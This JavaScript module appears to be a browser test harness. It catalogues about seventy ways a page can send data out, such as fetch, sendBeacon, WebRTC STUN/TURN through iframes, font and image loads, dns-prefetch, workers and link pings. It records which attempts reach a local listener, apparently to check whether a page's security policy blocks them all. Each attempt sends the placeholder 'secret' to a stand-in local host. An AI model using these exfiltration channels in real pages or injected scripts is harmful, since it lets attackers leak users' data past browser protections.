// Every way in which a browser can be made to send something, and a place outside of the page that sees what arrives.
// The attempts run in the page. `at` is where one of them sends to: its own path, ports and host name.
import { createSocket } from "node:dgram";
import { once } from "node:events";
import { createServer } from "node:net";
import { setTimeout } from "node:timers/promises";
import { listen } from "../server.mjs";

/** What each attempt is given, besides `at`. It runs in the page, so it is a string there. */
const HELPERS = `
  const add = (tag, properties, parent = document.body) => parent.appendChild(Object.assign(document.createElement(tag), properties));
  const link = (rel, properties) => add("link", { rel, ...properties }, document.head);
  const call = (Peer, server) => {
    const peer = new Peer({ iceServers: [{ username: "secret", credential: "secret", ...server }] });
    peer.createDataChannel("secret");
    peer.createOffer().then((offer) => peer.setLocalDescription(offer));
  };
  const blob = (code) => URL.createObjectURL(new Blob([code], { type: "text/javascript" }));
  const styled = (css) => {
    const sheet = new CSSStyleSheet();
    sheet.replaceSync(css);
    document.adoptedStyleSheets.push(sheet);
  };
`;

/** Ways that leave the page where it is. */
const STAYING = {
  fetch: (at) => fetch(at.url, { mode: "no-cors" }).catch(() => {}),
  "fetch with keepalive": (at) => fetch(at.url, { method: "POST", mode: "no-cors", keepalive: true, body: "secret" }).catch(() => {}),
  fetchLater: (at) => fetchLater(at.url, { activateAfter: 0 }),
  XMLHttpRequest: (at) => {
    const request = new XMLHttpRequest();
    request.open("POST", at.url);
    request.send("secret");
  },
  sendBeacon: (at) => navigator.sendBeacon(at.url, "secret"),
  WebSocket: (at) => new WebSocket(at.url.replace("http", "ws")),
  WebSocketStream: (at) => new WebSocketStream(at.url.replace("http", "ws")).opened.catch(() => {}),
  EventSource: (at) => new EventSource(at.url),
  WebTransport: (at) => new WebTransport(`https://127.0.0.1:${at.udp}/`).ready.catch(() => {}),
  "WebRTC, by STUN": (at) => call(RTCPeerConnection, { urls: `stun:127.0.0.1:${at.udp}` }),
  "WebRTC, by TURN over TCP": (at) => call(RTCPeerConnection, { urls: `turn:127.0.0.1:${at.tcp}?transport=tcp` }),
  "WebRTC by its old name": (at) => call(webkitRTCPeerConnection, { urls: `stun:127.0.0.1:${at.udp}` }),
  "WebRTC of a frame": (at) => call(add("iframe").contentWindow.RTCPeerConnection, { urls: `stun:127.0.0.1:${at.udp}` }),
  "WebRTC of a frame with content": (at) => {
    const frame = add("iframe", { srcdoc: "<p>" });
    frame.onload = () => call(frame.contentWindow.RTCPeerConnection, { urls: `stun:127.0.0.1:${at.udp}` });
  },
  "WebRTC of a frame that is not loaded yet": (at) => {
    const frame = add("iframe", { src: at.url });
    call(frame.contentWindow.RTCPeerConnection, { urls: `stun:127.0.0.1:${at.udp}` });
  },
  "WebRTC of a frame in a shadow root": (at) => {
    const frame = add("iframe", {}, add("div").attachShadow({ mode: "closed" }));
    call(frame.contentWindow.RTCPeerConnection, { urls: `stun:127.0.0.1:${at.udp}` });
  },
  image: (at) => (new Image().src = at.url),
  "image with srcset": (at) => (new Image().srcset = at.url),
  "image of SVG": (at) => {
    const image = document.createElementNS("http://www.w3.org/2000/svg", "image");
    image.setAttribute("href", at.url);
    document.body.appendChild(document.createElementNS("http://www.w3.org/2000/svg", "svg")).append(image);
  },
  "input of type image": (at) => add("input", { type: "image", src: at.url }),
  audio: (at) => (new Audio().src = at.url),
  video: (at) => add("video", { src: at.url }),
  "poster of a video": (at) => add("video", { poster: at.url }),
  track: (at) => {
    const video = add("video", { crossOrigin: "anonymous" });
    add("track", { src: at.url, default: true }, video).track.mode = "showing";
  },
  "background of an element": (at) => (document.body.style.backgroundImage = `url(${at.url})`),
  "background of a style sheet": (at) => styled(`footer, p { background: url(${at.url}) }`),
  "font of a style sheet": (at) => {
    styled(`@font-face { font-family: out; src: url(${at.url}) }`);
    add("p", { textContent: "x" }).style.fontFamily = "out";
  },
  FontFace: (at) => void new FontFace("x", `url(${at.url})`).load().catch(() => {}),
  "style sheet": (at) => link("stylesheet", { href: at.url }),
  "import of a style sheet": (at) => add("style", { textContent: `@import url(${at.url});` }, document.head),
  script: (at) => add("script", { src: at.url }),
  "script as a module": (at) => add("script", { type: "module", src: at.url }),
  "import()": (at) => void import(at.url).catch(() => {}),
  preload: (at) => link("preload", { as: "image", href: at.url }),
  modulepreload: (at) => link("modulepreload", { href: at.url }),
  prefetch: (at) => link("prefetch", { href: at.url }),
  preconnect: (at) => link("preconnect", { href: `http://127.0.0.1:${at.tcp}` }),
  "dns-prefetch": (at) => link("dns-prefetch", { href: `http://${at.host}` }),
  icon: (at) => link("icon", { href: at.url }),
  manifest: (at) => link("manifest", { href: at.url, crossOrigin: "anonymous" }),
  "compression dictionary": (at) => link("compression-dictionary", { href: at.url, crossOrigin: "anonymous" }),
  "speculation rules": (at) =>
    add("script", { type: "speculationrules", textContent: JSON.stringify({ prefetch: [{ urls: [at.url], eagerness: "immediate" }] }) }),
  frame: (at) => add("iframe", { src: at.url }),
  object: (at) => add("object", { data: at.url }),
  embed: (at) => add("embed", { src: at.url }),
  "form in a frame": (at) => {
    add("iframe", { name: "inside" });
    add("form", { action: at.url, target: "inside", method: "post" }).submit();
  },
  "fetch in a worker": (at) => new Worker(blob(`fetch("${at.url}", { mode: "no-cors" })`)),
  "importScripts in a worker": (at) => new Worker(blob(`importScripts("${at.url}")`)),
  "fetch in a shared worker": (at) => new SharedWorker(blob(`fetch("${at.url}", { mode: "no-cors" })`)),
  worklet: (at) => void new AudioContext().audioWorklet.addModule(at.url).catch(() => {}),
  PaymentRequest: (at) =>
    void new PaymentRequest([{ supportedMethods: at.url }], { total: { label: "x", amount: { currency: "USD", value: "1" } } })
      .canMakePayment()
      .catch(() => {}),
  "ping of a link": (at) => add("a", { href: "#x", ping: at.url }).click(),
  "code from a string": (at) => void window.setTimeout(`fetch("${at.url}", { mode: "no-cors" })`),
  "code in an attribute": (at) => (add("p").innerHTML = `<img src="data:," onerror="fetch('${at.url}', { mode: 'no-cors' })">`),
  "window.open": (at) => open(at.url),
  "window.open of a frame": (at) => add("iframe").contentWindow.open(at.url),
  "link to a new window": (at) => add("a", { href: at.url, target: "_blank", rel: "noopener" }).click(),
};

/** Ways that bring the page elsewhere. */
const LEAVING = {
  location: (at) => (window.location = at.url),
  "location.replace": (at) => location.replace(at.url),
  "navigation.navigate": (at) => navigation.navigate(at.url),
  link: (at) => add("a", { href: at.url }).click(),
  download: (at) => add("a", { href: at.url, download: "x" }).click(),
  "meta refresh": (at) => add("meta", { httpEquiv: "refresh", content: `0; url=${at.url}` }, document.head),
  form: (at) => add("form", { action: at.url }).submit(),
  "form that posts": (at) => add("form", { action: at.url, method: "post" }).submit(),
  "button of a form": (at) => add("button", { formAction: at.url }, add("form")).click(),
  "location of a frame's parent": (at) => {
    const frame = add("iframe");
    frame.contentWindow.Reflect.set(frame.contentWindow.parent, "location", at.url);
  },
};

/** Who sees what arrives: by the path, the port or the name of the host that only one way has. */
class Outside {
  /** The ways that got through. */
  reached = new Set();
  #closing = [];
  #places = new Map();

  static async open() {
    const outside = new Outside();
    const server = await listen((request, response) => {
      const name = decodeURIComponent(request.url.slice(1).split("?")[0]);
      if (outside.#places.has(name)) outside.reached.add(name);
      response.writeHead(200, { "Access-Control-Allow-Origin": "*", "Content-Type": "text/html" }).end();
    });
    outside.origin = server.origin;
    outside.#closing.push(server.close);
    return outside;
  }

  /** Where one way sends to. */
  async at(name) {
    if (this.#places.has(name)) return this.#places.get(name);
    const udp = createSocket("udp4").on("message", () => this.reached.add(name));
    udp.bind(0, "127.0.0.1");
    const tcp = createServer((socket) => void socket.on("error", () => {}).destroy()).on("connection", () => this.reached.add(name));
    tcp.listen(0, "127.0.0.1");
    await Promise.all([once(udp, "listening"), once(tcp, "listening")]);
    this.#closing.push(
      () => udp.close(),
      () => tcp.close(),
    );
    const host = `${name.replace(/\W+/g, "-").toLowerCase()}-${this.#places.size}.ways-out.test`;
    const place = { url: `${this.origin}/${encodeURIComponent(name)}?secret`, udp: udp.address().port, tcp: tcp.address().port, host };
    this.#places.set(name, place);
    return place;
  }

  /** Ways that only tell a name server, which the browser's log tells. */
  addLookups(log) {
    for (const [name, { host }] of this.#places) if (log.includes(host)) this.reached.add(name);
  }

  async close() {
    for (const close of this.#closing) await close();
  }
}

/** How long what was tried may take to arrive. */
const WAIT = 4000;

/**
 * Tries all ways on a page, and says which got through.
 *
 * @param newPage opens a tab: its `goto`, `evaluate` and `close` are Playwright's or Puppeteer's
 * @param finish ends the browser, and gives its log of look-ups if it has one
 */
export async function tryWaysOut(url, { newPage, finish }) {
  const outside = await Outside.open();
  const tabs = [];
  const attempt = async (ways) => {
    const page = await newPage();
    tabs.push(page);
    await page.goto(url);
    for (const [name, way] of ways) await page.evaluate(codeOf(way, await outside.at(name)));
  };
  try {
    await attempt(Object.entries(STAYING));
    for (const way of Object.entries(LEAVING)) await attempt([way]);
    await setTimeout(WAIT);
    for (const page of tabs) await page.close();
    outside.addLookups((await finish()) ?? "");
    return [...outside.reached].sort();
  } finally {
    await outside.close();
  }
}

/** A page without a policy, on which every way is open: what does not get through there was not really tried. */
export function serveOpenPage() {
  const page = "<!doctype html><title>open</title><p>x</p><footer>x</footer>";
  return listen((request, response) => response.writeHead(200, { "Content-Type": "text/html" }).end(page));
}

export const ALL = [...Object.keys(STAYING), ...Object.keys(LEAVING)].sort();

/** The code of one attempt. One that throws does not get through. */
function codeOf(attempt, at) {
  return `(() => { ${HELPERS}; try { (${attempt})(${JSON.stringify(at)}); } catch {} })()`;
}
